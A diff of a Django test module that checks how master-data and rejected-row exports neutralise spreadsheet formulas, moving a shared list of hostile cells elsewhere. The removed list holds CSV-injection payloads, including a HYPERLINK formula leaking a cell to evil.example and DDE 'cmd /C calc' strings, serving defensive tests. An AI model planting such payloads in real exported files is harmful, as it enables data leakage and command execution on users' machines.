@@ -1,6 +1,7 @@
 """Every export neutralises what a spreadsheet would run as a formula and writes what .xlsx
-cannot hold without failing (issue 7, part 2): the admin's master data exports, the rejected
-rows file, and the cells module both use. Exporting master data needs its own permission."""
+cannot hold without failing (issue 7, part 2): the admin's master data exports and the
+rejected rows file (the cells they write: tests/spreadsheets/test_writing.py). Exporting master
+data needs its own permission."""
 
 import csv
 import io
@@ -11,20 +12,13 @@ from django.contrib import admin
 from django.contrib.auth.models import Permission
 from django.urls import reverse
 
-from dossier import exports, models
+from dossier import models
 from imports.pipeline import report
 from imports.pipeline.outcomes import Problem, RowResult
-from imports.pipeline.reading import open_table
+from spreadsheets.reading import open_table
 from tests.factories import OrganisationFactory, UserFactory
+from tests.spreadsheets.test_writing import HOSTILE
 
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-1+1",
-    "\t=1+1",
-    "\r=1+1",
-]
 ESC = "Acme\x1b[31m red\x07 bell"
 
 
@@ -129,16 +123,6 @@ def test_the_rejected_rows_csv_escapes_formulas_and_reads_back_unchanged(tmp_pat
     text = target.read_text(encoding="utf-8-sig")
     assert next(csv.reader(io.StringIO(text.splitlines()[1]), delimiter=";"))[0] == "'" + HOSTILE[0]
     assert list(next(open_table(target).rows()).cells[:6]) == [value.strip() for value in HOSTILE]
-
-
-@pytest.mark.parametrize("value", HOSTILE)
-def test_a_csv_cell_starting_like_a_formula_gets_an_apostrophe(value):
-    assert exports.csv_text(value) == "'" + value
-
-
-@pytest.mark.parametrize("value", ["Acme", "10001", "", "a=b", "'plain"])
-def test_a_csv_cell_that_is_no_formula_stays_as_it_is(value):
-    assert exports.csv_text(value) == value
 
 
 def test_in_the_demo_world_the_administrator_and_importeur_may_export_master_data(demo):
